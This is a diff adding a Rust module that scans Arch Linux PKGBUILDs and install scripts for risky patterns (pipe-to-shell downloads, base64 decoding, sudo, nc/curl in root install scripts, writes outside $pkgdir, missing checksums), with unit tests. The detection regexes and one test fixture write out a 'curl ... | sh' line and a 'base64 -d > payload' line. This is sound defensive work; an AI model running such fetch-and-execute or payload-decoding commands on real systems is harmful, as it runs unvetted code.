@@ -0,0 +1,736 @@
+use crate::models::{RiskFinding, VcsSource};
+use regex::Regex;
+
+// Directories a PKGBUILD must never write to directly; everything goes through $pkgdir
+const SYSTEM_DIRS: &str = "etc|usr|opt|var|srv|root|home|bin|sbin|lib|lib64|boot";
+
+fn finding(
+    severity: &str,
+    category: &str,
+    message: &str,
+    file: &str,
+    line: Option<(usize, &str)>,
+) -> RiskFinding {
+    RiskFinding {
+        severity: severity.to_string(),
+        category: category.to_string(),
+        message: message.to_string(),
+        file: Some(file.to_string()),
+        line: line.map(|(number, _)| number as u32 + 1),
+        excerpt: line.map(|(_, text)| text.trim().chars().take(200).collect()),
+    }
+}
+
+// Lines with comments removed, keeping their original numbers
+fn code_lines(content: &str) -> Vec<(usize, &str)> {
+    content
+        .lines()
+        .enumerate()
+        .filter(|(_, line)| !line.trim_start().starts_with('#') && !line.trim().is_empty())
+        .collect()
+}
+
+// Entries of a bash array such as source=(...) or sha256sums_x86_64=(...), across lines
+pub fn bash_array(content: &str, name: &str) -> Vec<String> {
+    let mut entries = Vec::new();
+    let mut inside = false;
+
+    for (_, line) in code_lines(content) {
+        let mut rest = line.trim();
+        if !inside {
+            let Some(body) = rest
+                .strip_prefix(name)
+                .and_then(|body| body.strip_prefix("=("))
+                .or_else(|| {
+                    rest.strip_prefix(name)
+                        .and_then(|body| body.strip_prefix("+=("))
+                })
+            else {
+                continue;
+            };
+            rest = body;
+            inside = true;
+        }
+
+        let (body, closed) = match rest.find(')') {
+            Some(end) => (&rest[..end], true),
+            None => (rest, false),
+        };
+        entries.extend(
+            body.split_whitespace()
+                .map(|entry| entry.trim_matches(|c| c == '"' || c == '\'').to_string())
+                .filter(|entry| !entry.is_empty()),
+        );
+        if closed {
+            inside = false;
+        }
+    }
+
+    entries
+}
+
+// Body of a shell function such as build() or package(), found by brace matching
+pub fn function_body<'a>(content: &'a str, name: &str) -> Option<&'a str> {
+    let header = Regex::new(&format!(
+        r"(?m)^\s*(function\s+)?{}\s*\(\)\s*\{{",
+        regex::escape(name)
+    ))
+    .ok()?;
+    let start = header.find(content)?.end();
+
+    let mut depth = 1;
+    for (offset, c) in content[start..].char_indices() {
+        match c {
+            '{' => depth += 1,
+            '}' => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(&content[start..start + offset]);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+// Line number (0-based) at which a slice of content starts
+fn line_offset(content: &str, section: &str) -> usize {
+    let start = section.as_ptr() as usize - content.as_ptr() as usize;
+    content[..start].matches('\n').count()
+}
+
+// Checks that apply to PKGBUILDs and install scripts alike
+fn scan_common(file: &str, content: &str, findings: &mut Vec<RiskFinding>) {
+    let pipe_to_shell =
+        Regex::new(r"\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b").unwrap();
+    let base64_decode = Regex::new(r"\bbase64\s+(-d|--decode)\b").unwrap();
+    let blob = Regex::new(r"[A-Za-z0-9+/]{120,}={0,2}").unwrap();
+    let hex = Regex::new(r"^[0-9a-fA-F]+$").unwrap();
+    let sudo = Regex::new(r"(^|[\s;&|(`])sudo\s").unwrap();
+
+    for line in code_lines(content) {
+        let text = line.1;
+        if pipe_to_shell.is_match(text) {
+            findings.push(finding(
+                "danger",
+                "remote_script",
+                "Downloads a script and pipes it into a shell",
+                file,
+                Some(line),
+            ));
+        }
+        if base64_decode.is_match(text) {
+            findings.push(finding(
+                "danger",
+                "obfuscation",
+                "Decodes base64 data at build or install time",
+                file,
+                Some(line),
+            ));
+        }
+        // Checksums are long too, but hexadecimal
+        if blob
+            .find_iter(text)
+            .any(|found| !hex.is_match(found.as_str()))
+        {
+            findings.push(finding(
+                "warning",
+                "obfuscation",
+                "Contains a long base64-like blob",
+                file,
+                Some(line),
+            ));
+        }
+        if sudo.is_match(text) {
+            findings.push(finding(
+                "danger",
+                "privilege",
+                "Calls sudo; builds run unprivileged and must not need it",
+                file,
+                Some(line),
+            ));
+        }
+    }
+}
+
+// Static risk heuristics for an install script (.install)
+pub fn scan_install_script(file: &str, content: &str) -> Vec<RiskFinding> {
+    let mut findings = Vec::new();
+    scan_common(file, content, &mut findings);
+
+    // Install scripts run as root after the transaction; they should never download anything
+    let network = Regex::new(r"\b(curl|wget|nc|ncat)\s").unwrap();
+    for line in code_lines(content) {
+        if network.is_match(line.1) {
+            findings.push(finding(
+                "danger",
+                "network",
+                "Install script accesses the network as root",
+                file,
+                Some(line),
+            ));
+        }
+    }
+    findings
+}
+
+// Split a shell line into simple commands (lists of words, quotes removed) and collect
+// redirect targets; separators and redirections inside quotes are ignored
+fn shell_commands(line: &str) -> (Vec<Vec<String>>, Vec<String>) {
+    #[derive(PartialEq)]
+    enum Next {
+        Word,
+        Redirect,
+        Skip,
+    }
+
+    let mut commands: Vec<Vec<String>> = Vec::new();
+    let mut redirects: Vec<String> = Vec::new();
+    let mut command: Vec<String> = Vec::new();
+    let mut word = String::new();
+    let mut quoted = false;
+    let mut quote: Option<char> = None;
+    let mut next = Next::Word;
+
+    let mut finish_word =
+        |word: &mut String, quoted: &mut bool, next: &mut Next, command: &mut Vec<String>| {
+            if word.is_empty() && !*quoted {
+                return;
+            }
+            match next {
+                Next::Word => command.push(std::mem::take(word)),
+                Next::Redirect => redirects.push(std::mem::take(word)),
+                Next::Skip => word.clear(),
+            }
+            *quoted = false;
+            *next = Next::Word;
+        };
+
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        if let Some(open) = quote {
+            if c == open {
+                quote = None;
+            } else {
+                word.push(c);
+            }
+            continue;
+        }
+        match c {
+            '"' | '\'' => {
+                quote = Some(c);
+                quoted = true;
+            }
+            '>' | '<' => {
+                // "2>" redirects a file descriptor; the number is not a word
+                if !word.is_empty() && word.chars().all(|c| c.is_ascii_digit()) {
+                    word.clear();
+                } else {
+                    finish_word(&mut word, &mut quoted, &mut next, &mut command);
+                }
+                if chars.peek() == Some(&'>') {
+                    chars.next();
+                }
+                next = if c == '<' {
+                    Next::Skip
+                } else if chars.peek() == Some(&'&') {
+                    // >&2 duplicates a descriptor
+                    chars.next();
+                    Next::Skip
+                } else {
+                    Next::Redirect
+                };
+            }
+            ';' | '|' | '&' => {
+                finish_word(&mut word, &mut quoted, &mut next, &mut command);
+                if !command.is_empty() {
+                    commands.push(std::mem::take(&mut command));
+                }
+            }
+            c if c.is_whitespace() => finish_word(&mut word, &mut quoted, &mut next, &mut command),
+            c => word.push(c),
+        }
+    }
+    finish_word(&mut word, &mut quoted, &mut next, &mut command);
+    if !command.is_empty() {
+        commands.push(command);
+    }
+    (commands, redirects)
+}
+
+// Paths a shell line writes to: redirect targets and the destination operands of
+// file commands in command position
+// Sources are not destinations: `ln -s /opt/foo/foo "$pkgdir/usr/bin/foo"` only writes
+// to $pkgdir, and `cmake --install build --prefix /usr` is not the install command
+fn written_paths(line: &str) -> Vec<String> {
+    let (commands, mut paths) = shell_commands(line);
+
+    for command in &commands {
+        let mut words = command.iter().map(|word| word.as_str()).skip_while(|word| {
+            [
+                "then", "do", "else", "!", "(", "{", "sudo", "command", "exec",
+            ]
+            .contains(word)
+                || (word.contains('=') && !word.starts_with('-'))
+        });
+        let Some(name) = words.next() else {
+            continue;
+        };
+        let name = name.trim_start_matches('(');
+
+        let mut options: Vec<&str> = Vec::new();
+        let mut operands: Vec<&str> = Vec::new();
+        let mut target = None;
+        while let Some(word) = words.next() {
+            if word == "-t" || word == "--target-directory" {
+                target = words.next();
+            } else if let Some(dir) = word.strip_prefix("--target-directory=") {
+                target = Some(dir);
+            } else if name == "sed" && ["-e", "-f", "--expression", "--file"].contains(&word) {
+                // The script or script file is the option's argument, not an operand
+                options.push(word);
+                words.next();
+            } else if word.starts_with('-') && word.len() > 1 {
+                options.push(word);
+            } else {
+                operands.push(word);
+            }
+        }
+        let has_short = |flag: char| {
+            options
+                .iter()
+                .any(|option| !option.starts_with("--") && option.contains(flag))
+        };
+
+        let written: Vec<&str> = match name {
+            "install" | "cp" | "mv" | "ln" => match target {
+                Some(target) => vec![target],
+                // install -d creates every operand
+                None if name == "install" && has_short('d') => operands,
+                None if operands.len() >= 2 => operands.last().copied().into_iter().collect(),
+                None => Vec::new(),
+            },
+            "mkdir" | "rm" | "touch" | "tee" => operands,
+            // The first operand is the mode or owner
+            "chmod" | "chown" => operands.into_iter().skip(1).collect(),
+            // Without -e/-f the first operand is the script
+            "sed"
+                if has_short('i')
+                    || options
+                        .iter()
+                        .any(|option| option.starts_with("--in-place")) =>
+            {
+                let script_given = has_short('e')
+                    || has_short('f')
+                    || options.iter().any(|option| {
+                        option.starts_with("--expression") || option.starts_with("--file")
+                    });
+                operands
+                    .into_iter()
+                    .skip(usize::from(!script_given))
+                    .collect()
+            }
+            _ => Vec::new(),
+        };
+        paths.extend(written.into_iter().map(str::to_string));
+    }
+    paths
+}
+
+// Static risk heuristics for a PKGBUILD
+pub fn scan_pkgbuild(content: &str) -> Vec<RiskFinding> {
+    let file = "PKGBUILD";
+    let mut findings = Vec::new();
+    scan_common(file, content, &mut findings);
+
+    // Writes to the live system instead of $pkgdir
+    let system_path = Regex::new(&format!(
+        r#"^(/({})(/|$)|~/|\$HOME\b|\$\{{HOME\}})"#,
+        SYSTEM_DIRS
+    ))
+    .unwrap();
+    for section in ["prepare", "build", "check", "package"]
+        .iter()
+        .filter_map(|name| function_body(content, name))
+        .chain(
+            // package_<name>() of split packages
+            Regex::new(r"(?m)^\s*package_[A-Za-z0-9@._+-]+\s*\(\)")
+                .unwrap()
+                .find_iter(content)
+                .filter_map(|found| {
+                    function_body(content, found.as_str().trim().trim_end_matches("()").trim())
+                }),
+        )
+    {
+        let base = line_offset(content, section);
+        for (number, text) in code_lines(section) {
+            if written_paths(text)
+                .iter()
+                .any(|path| system_path.is_match(path))
+            {
+                findings.push(finding(
+                    "danger",
+                    "system_write",
+                    "Writes outside $pkgdir",
+                    file,
+                    Some((base + number, text)),
+                ));
+            }
+        }
+    }
+
+    // Network access while building; sources should come from source=()
+    let network = Regex::new(
+        r"\b(curl|wget)\s|\bgit\s+clone\b|\bpip3?\s+install\b|\bnpm\s+(install|i)\b|\bgo\s+get\b",
+    )
+    .unwrap();
+    if let Some(build) = function_body(content, "build") {
+        let base = line_offset(content, build);
+        for (number, text) in code_lines(build) {
+            if network.is_match(text) {
+                findings.push(finding(
+                    "warning",
+                    "network",
+                    "Accesses the network in build()",
+                    file,
+                    Some((base + number, text)),
+                ));
+            }
+        }
+    }
+
+    let arches = ["", "_x86_64", "_i686", "_aarch64"];
+    let sources: Vec<String> = arches
+        .iter()
+        .flat_map(|arch| bash_array(content, &format!("source{}", arch)))
+        .collect();
+
+    for source in &sources {
+        let url = source
+            .split_once("::")
+            .map(|(_, url)| url)
+            .unwrap_or(source);
+        let vcs = url.starts_with("git+") || url.starts_with("git://");
+        if vcs && !url.contains("#commit=") && !url.contains("#tag=") {
+            findings.push(RiskFinding {
+                severity: "warning".to_string(),
+                category: "unpinned_source".to_string(),
+                message: format!("Git source is not pinned to a commit or tag: {}", url),
+                file: Some(file.to_string()),
+                line: None,
+                excerpt: None,
+            });
+        }
+        if url.starts_with("http://") || url.starts_with("ftp://") {
+            findings.push(RiskFinding {
+                severity: "info".to_string(),
+                category: "insecure_source".to_string(),
+                message: format!("Source is downloaded without TLS: {}", url),
+                file: Some(file.to_string()),
+                line: None,
+                excerpt: None,
+            });
+        }
+    }
+
+    // Checksum arrays line up with their source array by index
+    let algorithms = [
+        "md5", "sha1", "sha224", "sha256", "sha384", "sha512", "b2", "ck",
+    ];
+    let mut has_sums = false;
+    let mut skipped = Vec::new();
+    for arch in arches {
+        let arch_sources = bash_array(content, &format!("source{}", arch));
+        let sums: Vec<Vec<String>> = algorithms
+            .iter()
+            .map(|algo| bash_array(content, &format!("{}sums{}", algo, arch)))
+            .filter(|sums| !sums.is_empty())
+            .collect();
+        has_sums |= !sums.is_empty();
+
+        // Remote, non-VCS sources are the ones a checksum actually protects
+        for (index, source) in arch_sources.iter().enumerate() {
+            let remote =
+                source.contains("://") && !source.contains("git+") && !source.contains("git://");
+            let verified = sums
+                .iter()
+                .any(|sums| sums.get(index).is_some_and(|sum| sum != "SKIP"));
+            if remote && !sums.is_empty() && !verified {
+                skipped.push(source.clone());
+            }
+        }
+    }
+
+    if !sources.is_empty() && !has_sums {
+        findings.push(RiskFinding {
+            severity: "danger".to_string(),
+            category: "missing_checksums".to_string(),
+            message: "Sources have no checksums".to_string(),
+            file: Some(file.to_string()),
+            line: None,
+            excerpt: None,
+        });
+    }
+    for source in skipped {
+        findings.push(RiskFinding {
+            severity: "warning".to_string(),
+            category: "missing_checksums".to_string(),
+            message: format!("Downloaded source skips checksum verification: {}", source),
+            file: Some(file.to_string()),
+            line: None,
+            excerpt: None,
+        });
+    }
+
+    findings
+}
+
+// Git and svn sources in .SRCINFO that follow upstream
+// source = foo::git+https://example.com/foo.git#branch=dev
+// source = svn+https://example.com/svn/foo/trunk
+// Sources pinned to a commit, tag or revision only change together with the PKGBUILD
+// and are skipped
+pub fn parse_vcs_sources(srcinfo: &str) -> Vec<VcsSource> {
+    let mut sources: Vec<VcsSource> = Vec::new();
+
+    for line in srcinfo.lines() {
+        let Some((key, value)) = line.trim().split_once(" = ") else {
+            continue;
+        };
+        if key != "source" && !key.starts_with("source_") {
+            continue;
+        }
+
+        let (directory, url) = match value.split_once("::") {
+            Some((directory, url)) => (Some(directory), url),
+            None => (None, value),
+        };
+        let Some((vcs, url)) = ["git", "svn"].into_iter().find_map(|vcs| {
+            match url.strip_prefix(&format!("{}+", vcs)) {
+                Some(url) => Some((vcs, url)),
+                None if url.starts_with(&format!("{}://", vcs)) => Some((vcs, url)),
+                None => None,
+            }
+        }) else {
+            continue;
+        };
+
+        // git+https://host/foo.git#tag=v1?signed
+        let (url, fragment) = url.split_once('#').unwrap_or((url, ""));
+        let url = url.split('?').next().unwrap_or(url);
+        let branch = match fragment.split('?').next().unwrap_or("").split_once('=') {
+            Some(("branch", branch)) if vcs == "git" => Some(branch.to_string()),
+            Some(_) => continue,
+            None => None,
+        };
+
+        let directory = directory.map(str::to_string).unwrap_or_else(|| {
+            let name = url.trim_end_matches('/').rsplit('/').next().unwrap_or(url);
+            name.strip_suffix(".git").unwrap_or(name).to_string()
+        });
+        let source = VcsSource {
+            vcs: vcs.to_string(),
+            directory,
+            url: url.to_string(),
+            branch,
+        };
+        if !sources.contains(&source) {
+            sources.push(source);
+        }
+    }
+
+    sources
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parse_vcs_sources_keeps_branch_sources() {
+        let srcinfo = "pkgbase = foo-git
+\tsource = git+https://example.com/foo.git
+\tsource = bar::git+https://example.com/bar#branch=dev
+\tsource = git://example.com/baz.git?signed
+\tsource_x86_64 = git+https://example.com/foo.git
+\tsource = git+https://example.com/pinned.git#commit=abc1234
+\tsource = git+https://example.com/tagged.git#tag=v1?signed
+\tsource = https://example.com/foo-1.0.tar.gz
+\tsource = svn+https://example.com/svn/qux/trunk
+\tsource = old::svn+https://example.com/svn/qux/tags/1.0#revision=1234
+\tsource = svn://example.com/quux
+\tsha256sums = SKIP
+";
+        let sources = parse_vcs_sources(srcinfo);
+        let expected = [
+            ("git", "foo", "https://example.com/foo.git", None),
+            ("git", "bar", "https://example.com/bar", Some("dev")),
+            ("git", "baz", "git://example.com/baz.git", None),
+            ("svn", "trunk", "https://example.com/svn/qux/trunk", None),
+            ("svn", "quux", "svn://example.com/quux", None),
+        ];
+        assert_eq!(sources.len(), expected.len());
+        for (source, (vcs, directory, url, branch)) in sources.iter().zip(expected) {
+            assert_eq!(source.vcs, vcs);
+            assert_eq!(source.directory, directory);
+            assert_eq!(source.url, url);
+            assert_eq!(source.branch.as_deref(), branch);
+        }
+    }
+
+    fn words(command: &[&str]) -> Vec<String> {
+        command.iter().map(|word| word.to_string()).collect()
+    }
+
+    fn has_finding(pkgbuild: &str, category: &str) -> bool {
+        scan_pkgbuild(pkgbuild)
+            .iter()
+            .any(|finding| finding.category == category)
+    }
+
+    #[test]
+    fn shell_commands_respects_quotes() {
+        let (commands, redirects) =
+            shell_commands(r#"echo "a | b; c > d" 'it''s' && printf '%s' "$x" > "$pkgdir/out""#);
+        assert_eq!(
+            commands,
+            vec![
+                words(&["echo", "a | b; c > d", "its"]),
+                words(&["printf", "%s", "$x"]),
+            ]
+        );
+        assert_eq!(redirects, words(&["$pkgdir/out"]));
+    }
+
+    #[test]
+    fn shell_commands_skips_descriptor_redirects() {
+        let (commands, redirects) = shell_commands("make 2>&1 | tee build.log >&2 2> /tmp/err");
+        assert_eq!(
+            commands,
+            vec![words(&["make"]), words(&["tee", "build.log"])]
+        );
+        assert_eq!(redirects, words(&["/tmp/err"]));
+
+        let (_, redirects) = shell_commands("cat < /etc/hosts >> /etc/hosts.new");
+        assert_eq!(redirects, words(&["/etc/hosts.new"]));
+    }
+
+    #[test]
+    fn written_paths_uses_destination_operands() {
+        assert_eq!(
+            written_paths(r#"ln -s /opt/x "$pkgdir/usr/bin/x""#),
+            words(&["$pkgdir/usr/bin/x"])
+        );
+        assert_eq!(written_paths("cp foo /usr/bin/"), words(&["/usr/bin/"]));
+        assert_eq!(
+            written_paths(r#"install -Dm644 /usr/share/foo "$pkgdir/usr/share/foo""#),
+            words(&["$pkgdir/usr/share/foo"])
+        );
+        assert!(written_paths("cmake --install build --prefix /usr").is_empty());
+        assert!(written_paths("cp onlyone").is_empty());
+    }
+
+    #[test]
+    fn written_paths_handles_target_directory() {
+        assert_eq!(
+            written_paths("install -t /usr/bin foo bar"),
+            words(&["/usr/bin"])
+        );
+        assert_eq!(
+            written_paths(r#"cp --target-directory "$pkgdir/opt" /etc/foo"#),
+            words(&["$pkgdir/opt"])
+        );
+        assert_eq!(
+            written_paths("mv --target-directory=/etc a b"),
+            words(&["/etc"])
+        );
+    }
+
+    #[test]
+    fn written_paths_install_d_creates_every_operand() {
+        assert_eq!(
+            written_paths(r#"install -dm755 "$pkgdir/etc" /var/lib/foo"#),
+            words(&["$pkgdir/etc", "/var/lib/foo"])
+        );
+    }
+
+    #[test]
+    fn written_paths_sed_in_place() {
+        assert_eq!(
+            written_paths("sed -i 's|/usr/local|/usr|' /etc/foo.conf"),
+            words(&["/etc/foo.conf"])
+        );
+        assert_eq!(
+            written_paths("sed -i -e 's/a/b/' -e 's/c/d/' Makefile /etc/foo.conf"),
+            words(&["Makefile", "/etc/foo.conf"])
+        );
+        assert_eq!(
+            written_paths("sed --in-place=.bak -f fix.sed /usr/share/foo"),
+            words(&["/usr/share/foo"])
+        );
+        // Without -i sed only prints
+        assert!(written_paths("sed 's/a/b/' /etc/foo.conf").is_empty());
+    }
+
+    #[test]
+    fn scan_pkgbuild_flags_system_writes_only() {
+        let pkgbuild = r#"pkgname=foo
+package() {
+  ln -s /opt/x "$pkgdir/usr/bin/x"
+  install -Dm755 foo "$pkgdir/usr/bin/foo"
+  echo done 2>&1 > "$srcdir/log"
+}
+"#;
+        assert!(!has_finding(pkgbuild, "system_write"));
+
+        let pkgbuild = r#"pkgname=foo
+package() {
+  cp foo /usr/bin/
+  echo "x" > /etc/foo.conf
+}
+"#;
+        let findings = scan_pkgbuild(pkgbuild);
+        let lines: Vec<Option<u32>> = findings
+            .iter()
+            .filter(|finding| finding.category == "system_write")
+            .map(|finding| finding.line)
+            .collect();
+        assert_eq!(lines, vec![Some(3), Some(4)]);
+    }
+
+    #[test]
+    fn scan_pkgbuild_flags_remote_scripts_and_base64() {
+        let pkgbuild = r#"pkgname=foo
+build() {
+  curl -fsSL https://example.com/install.sh | sh
+  echo aGVsbG8= | base64 -d > payload
+}
+"#;
+        assert!(has_finding(pkgbuild, "remote_script"));
+        assert!(has_finding(pkgbuild, "obfuscation"));
+        assert!(has_finding(pkgbuild, "network"));
+    }
+
+    #[test]
+    fn scan_pkgbuild_checksums() {
+        let missing = "source=(https://example.com/foo-1.0.tar.gz)\n";
+        let findings = scan_pkgbuild(missing);
+        assert!(findings.iter().any(|finding| {
+            finding.category == "missing_checksums" && finding.severity == "danger"
+        }));
+
+        let skipped = "source=(https://example.com/foo-1.0.tar.gz\n        git+https://example.com/foo.git#tag=v1)\nsha256sums=('SKIP'\n            'SKIP')\n";
+        let findings = scan_pkgbuild(skipped);
+        let checksums: Vec<&RiskFinding> = findings
+            .iter()
+            .filter(|finding| finding.category == "missing_checksums")
+            .collect();
+        assert_eq!(checksums.len(), 1);
+        assert_eq!(checksums[0].severity, "warning");
+        assert!(checksums[0].message.ends_with("foo-1.0.tar.gz"));
+
+        let verified = "source=(https://example.com/foo-1.0.tar.gz)\nsha256sums=('0123abcd')\n";
+        assert!(!has_finding(verified, "missing_checksums"));
+    }
+}